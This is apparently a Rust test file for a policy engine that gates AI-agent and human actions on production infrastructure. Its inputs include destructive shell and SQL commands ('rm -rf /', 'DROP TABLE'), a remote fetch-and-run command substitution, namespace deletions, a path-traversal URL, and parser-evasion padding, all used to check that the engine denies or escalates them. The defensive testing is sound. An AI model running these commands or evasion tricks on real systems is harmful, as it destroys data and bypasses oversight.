//! The starter policy loads, decides as its comments promise, and its
//! shipped cases pass.

#![cfg_attr(test, allow(clippy::unwrap_used, clippy::expect_used, clippy::panic))]

mod common;

use std::time::Duration;

use common::*;
use countersign_policy::cases::{parse_cases, run, Expect};
use countersign_policy::{PolicyEngine, PolicySource, Verdict, STARTER_CASES, STARTER_POLICY};

fn starter() -> PolicyEngine {
    PolicyEngine::from_sources(
        vec![PolicySource { file: "starter.cedar".into(), text: STARTER_POLICY.into() }],
        None,
        defaults(),
    )
    .unwrap()
}

#[test]
fn starter_loads_with_named_policies() {
    let e = starter();
    assert_eq!(
        e.policy_ids(),
        vec![
            "routine-nonprod",
            "prod-needs-sre",
            "prod-pii-sql-needs-two-dbas",
            "no-destructive-agents-in-prod",
            "unreadable-needs-sre",
            "unlisted-kind-needs-sre",
            "prod-sql-reads-routine",
            "unfiltered-dml-needs-dba",
            "prod-ddl-needs-two-dbas",
            "k8s-reads-routine-nonprod",
            "k8s-changes-nonprod-need-sre",
            "k8s-prod-exec-needs-sre",
            "no-namespace-deletes-by-agents"
        ]
    );
}

#[test]
fn starter_verdicts() {
    let e = starter();
    let bot = agent("deploy-bot", &["deployers"]);
    let mut restart = action("shell.exec", "staging-web");
    restart.payload = serde_json::json!({"command": "systemctl restart web"});
    assert_eq!(e.decide(&bot, &restart).verdict, Verdict::Allow);

    let mut restart_prod = action("shell.exec", "prod-web");
    restart_prod.payload = serde_json::json!({"command": "systemctl restart web"});
    let d = e.decide(&bot, &restart_prod);
    let Verdict::RequireApproval(reqs) = d.verdict else { panic!("{d:?}") };
    assert_eq!(reqs.len(), 1);
    assert_eq!((reqs[0].groups.clone(), reqs[0].quorum), (vec!["sre".to_owned()], 1));
    assert_eq!((reqs[0].timeout, reqs[0].valid_for), (Duration::from_secs(1800), Duration::from_secs(600)));
    assert_eq!(d.reason, "needs approval: `prod-needs-sre` (1 of sre)");

    let d = e.decide(&bot, &sql("prod-db", "SELECT email FROM users", &["pii"]));
    let Verdict::RequireApproval(reqs) = d.verdict else { panic!("{d:?}") };
    let summary: Vec<(String, u32)> = reqs.iter().map(|r| (r.policy.clone(), r.quorum)).collect();
    assert_eq!(summary, vec![("prod-needs-sre".to_owned(), 1), ("prod-pii-sql-needs-two-dbas".to_owned(), 2)]);

    let drop = sql("prod-db", "DROP TABLE users", &["destructive"]);
    let d = e.decide(&bot, &drop);
    assert_eq!((d.verdict, d.reason.as_str()), (Verdict::Deny, "denied by `no-destructive-agents-in-prod`"));
    assert!(matches!(e.decide(&agent("x", &["break-glass"]), &drop).verdict, Verdict::RequireApproval(_)));
    assert!(matches!(e.decide(&user("erin", &[]), &drop).verdict, Verdict::RequireApproval(_)));
    assert_eq!(e.decide(&bot, &sql("staging-db", "DROP TABLE users", &["destructive"])).verdict, Verdict::Allow);
}

#[test]
fn starter_reads_the_payload_not_just_labels() {
    let e = starter();
    let bot = agent("deploy-bot", &["deployers"]);
    let denied = "denied by `no-destructive-agents-in-prod`";
    // No label, yet the parsed SQL and shell command are destructive.
    let d = e.decide(&bot, &sql("prod-db", "/* cleanup */ DeLeTe FROM orders", &[]));
    assert_eq!((d.verdict, d.reason.as_str()), (Verdict::Deny, denied));
    let d = e.decide(&bot, &sql("prod-db", "update users set admin = true", &[]));
    assert_eq!(d.verdict, Verdict::Deny);
    let mut shell = action("shell.exec", "prod-web");
    for command in ["true && rm -rf /srv", "sh -c \"rm -rf /\"", "echo x | xargs rm -rf", "/usr/bin/env rm -r /"] {
        shell.payload = serde_json::json!({"command": command});
        assert_eq!(e.decide(&bot, &shell).verdict, Verdict::Deny, "{command}");
    }
    // Reading the facts never breaks other kinds or harmless commands.
    shell.payload = serde_json::json!({"command": "systemctl restart web"});
    assert!(matches!(e.decide(&bot, &shell).verdict, Verdict::RequireApproval(_)));
    assert!(matches!(e.decide(&bot, &action("http.request", "prod-api")).verdict, Verdict::RequireApproval(_)));
    assert_eq!(e.decide(&bot, &sql("staging-db", "select 1", &[])).verdict, Verdict::Allow);

    // Outside production, what cannot be read waits for an SRE.
    let mut staging = action("shell.exec", "staging-web");
    staging.payload = serde_json::json!({"command": "$(curl -s https://example.invalid/cmd)"});
    let d = e.decide(&bot, &staging);
    let Verdict::RequireApproval(reqs) = d.verdict else { panic!("{d:?}") };
    assert_eq!(reqs[0].policy, "unreadable-needs-sre");
    let d = e.decide(&bot, &sql("staging-db", "DROP TABEL x", &[]));
    assert!(matches!(d.verdict, Verdict::RequireApproval(_)), "{d:?}");
}

/// The kind is the submitter's claim: outside production, only the kinds
/// the starter lists are routine; any other kind waits for an SRE, as a
/// class (unknown families, known families with other verbs, people and
/// agents alike).
#[test]
fn unlisted_kinds_are_never_routine() {
    let e = starter();
    let bot = agent("deploy-bot", &["deployers"]);
    let erin = user("erin", &["developers"]);
    for kind in ["run", "exec", "shell.run", "shell.exec.now", "sql.query", "bash", "deploy.release", "x", "file.write"]
    {
        for resource in ["staging-web", "dev-db", "web"] {
            let mut a = action(kind, resource);
            a.payload = serde_json::json!({"argv": ["echo", "hello"]});
            for who in [&bot, &erin] {
                let d = e.decide(who, &a);
                let Verdict::RequireApproval(reqs) = &d.verdict else { panic!("{kind} on {resource}: {d:?}") };
                assert!(reqs.iter().any(|r| r.policy == "unlisted-kind-needs-sre"), "{kind}: {d:?}");
            }
        }
        let mut prod = action(kind, "prod-web");
        prod.payload = serde_json::json!({"argv": ["echo", "hello"], "statement": "select 1"});
        let d = e.decide(&bot, &prod);
        assert!(matches!(d.verdict, Verdict::RequireApproval(_)), "{kind} on prod: {d:?}");
    }
    for kind in ["shell.exec", "sql.execute", "k8s.apply", "terraform.apply", "http.request", "mcp.tool_call"] {
        let mut a = action(kind, "staging-web");
        a.payload = serde_json::json!({});
        let d = e.decide(&bot, &a);
        assert!(!d.policies.contains(&"unlisted-kind-needs-sre".to_owned()), "{kind}: {d:?}");
    }
}

/// On production, an agent's payload the gateway cannot parse is denied
/// (padding a command past the parsers' bounds must not turn a denial into
/// a request), while one that parses but runs something unnamed waits.
#[test]
fn unparsable_payloads_of_agents_on_production_are_denied() {
    let e = starter();
    let bot = agent("deploy-bot", &["deployers"]);
    let padded = format!("rm -rf /srv; {}", "x ".repeat(countersign_facts::MAX_INPUT_BYTES));
    for (kind, payload) in [
        ("shell.exec", serde_json::json!({ "command": padded })),
        ("shell.exec", serde_json::json!({"command": "rm -rf /srv ((("})),
        ("shell.exec", serde_json::json!({})),
        ("sql.execute", serde_json::json!({"statement": "DROP TABLE users; SELEKT ((("})),
        ("k8s.apply", serde_json::json!({"args": ["delete", 1]})),
        ("terraform.apply", serde_json::json!({"plan": "plan.bin"})),
        ("run", serde_json::json!({"argv": ["rm", 1]})),
    ] {
        let mut a = action(kind, "prod-web");
        a.payload = payload;
        assert_eq!(e.decide(&bot, &a).verdict, Verdict::Deny, "{kind}");
    }
    let mut a = action("shell.exec", "prod-web");
    a.payload = serde_json::json!({"command": "./deploy.sh"});
    assert!(matches!(e.decide(&bot, &a).verdict, Verdict::RequireApproval(_)));
    // People are not agents: they still get to ask.
    a.payload = serde_json::json!({"command": "rm -rf /srv ((("});
    assert!(matches!(e.decide(&user("erin", &[]), &a).verdict, Verdict::RequireApproval(_)));
}

#[test]
fn starter_cases_pass() {
    let cases = parse_cases("cases.json", STARTER_CASES).unwrap();
    assert!(cases.len() >= 5);
    let results = run(&starter(), &cases);
    for r in &results {
        assert!(r.passed, "{r:?}");
        assert!(r.errors.is_empty(), "{r:?}");
    }
    for outcome in [Expect::Allowed, Expect::Pending, Expect::Denied] {
        assert!(results.iter().any(|r| r.outcome == outcome), "no case covers {outcome:?}");
    }
}

/// Kubernetes API requests through the gateway (`k8s.request`), judged on
/// the request as the API server reads it: reads are routine outside
/// production, writes and execs wait for an SRE, exec into production
/// pods needs an SRE (and a destructive command there is denied to
/// agents), and agents never delete namespaces.
#[test]
fn kubernetes_requests() {
    let e = starter();
    let bot = agent("deploy-bot", &["deployers"]);
    let erin = user("erin", &["developers"]);
    let request = |resource: &str, method: &str, path: &str, query: Option<&str>| {
        let mut a = action("k8s.request", resource);
        a.payload = serde_json::json!({"method": method, "path": path, "query": query, "headers": {}, "body_bytes": 0});
        a
    };
    let policies = |d: &countersign_policy::Decision| -> Vec<String> {
        let mut names: Vec<String> = match &d.verdict {
            Verdict::RequireApproval(reqs) => reqs.iter().map(|r| r.policy.clone()).collect(),
            Verdict::Allow | Verdict::Deny => Vec::new(),
        };
        names.sort();
        names
    };
    for (method, path, query) in [
        ("GET", "/api/v1/namespaces/web/pods", None),
        ("GET", "/api/v1/namespaces/web/pods/web-0/log", Some("follow=true")),
        ("GET", "/api/v1/namespaces/web/pods", Some("watch=1")),
    ] {
        let d = e.decide(&bot, &request("staging", method, path, query));
        assert_eq!(d.verdict, Verdict::Allow, "{path}: {d:?}");
        // The same read on production waits for an SRE.
        let d = e.decide(&bot, &request("prod-cluster", method, path, query));
        assert_eq!(policies(&d), ["prod-needs-sre"], "{path}: {d:?}");
    }
    // Discovery is routine everywhere: kubectl asks for it before anything.
    for path in ["/api", "/apis", "/version", "/openapi/v3", "/api/v1"] {
        assert_eq!(e.decide(&bot, &request("prod-cluster", "GET", path, None)).verdict, Verdict::Allow, "{path}");
    }
    // The API server's other non-resource paths are not discovery: its own
    // logs, metrics and profiles on production wait for an SRE.
    for path in ["/logs/kube-apiserver.log", "/metrics", "/debug/pprof/heap", "/readyz", "/logs"] {
        let d = e.decide(&bot, &request("prod-cluster", "GET", path, None));
        assert_eq!(policies(&d), ["prod-needs-sre"], "{path}: {d:?}");
    }
    let write = request("staging", "PATCH", "/apis/apps/v1/namespaces/web/deployments/api", None);
    assert_eq!(policies(&e.decide(&bot, &write)), ["k8s-changes-nonprod-need-sre"]);
    let write = request("prod-cluster", "POST", "/api/v1/namespaces/web/configmaps", None);
    assert_eq!(policies(&e.decide(&bot, &write)), ["prod-needs-sre"]);
    // A path the API server could read otherwise is not a read.
    let tricky = request("staging", "GET", "/api/v1/namespaces/web/pods/%2e%2e/secrets", None);
    assert!(matches!(e.decide(&bot, &tricky).verdict, Verdict::RequireApproval(_)));
    assert_eq!(
        e.decide(&bot, &request("prod-cluster", "GET", "/api/v1/namespaces/a%2Fb/pods", None)).verdict,
        Verdict::Deny
    );

    let exec =
        |command: &str| request("prod-cluster", "POST", "/api/v1/namespaces/prod/pods/api-0/exec", Some(command));
    let d = e.decide(&bot, &exec("command=ls&command=%2Ftmp&stdout=true"));
    assert_eq!(policies(&d), ["k8s-prod-exec-needs-sre", "prod-needs-sre"], "{d:?}");
    let d = e.decide(&bot, &exec("command=sh&command=-c&command=rm+-rf+%2Fdata"));
    assert_eq!(d.verdict, Verdict::Deny, "{d:?}");
    let d = e.decide(&bot, &request("staging", "POST", "/api/v1/namespaces/web/pods/web-0/exec", Some("command=ls")));
    assert_eq!(policies(&d), ["k8s-changes-nonprod-need-sre"], "{d:?}");

    let denied = "denied by `no-namespace-deletes-by-agents`";
    for resource in ["staging", "prod-cluster"] {
        let d = e.decide(&bot, &request(resource, "DELETE", "/api/v1/namespaces/web", None));
        assert_eq!((d.verdict, d.reason.as_str()), (Verdict::Deny, denied), "{resource}");
        let d = e.decide(&bot, &request(resource, "DELETE", "/api/v1/namespaces", None));
        assert_eq!(d.verdict, Verdict::Deny, "{resource}");
        // People may ask.
        assert!(matches!(
            e.decide(&erin, &request(resource, "DELETE", "/api/v1/namespaces/web", None)).verdict,
            Verdict::RequireApproval(_)
        ));
    }
    let mut line = action("shell.exec", "staging-web");
    line.payload = serde_json::json!({"command": "kubectl delete ns web"});
    assert_eq!(e.decide(&bot, &line).reason, denied);
}
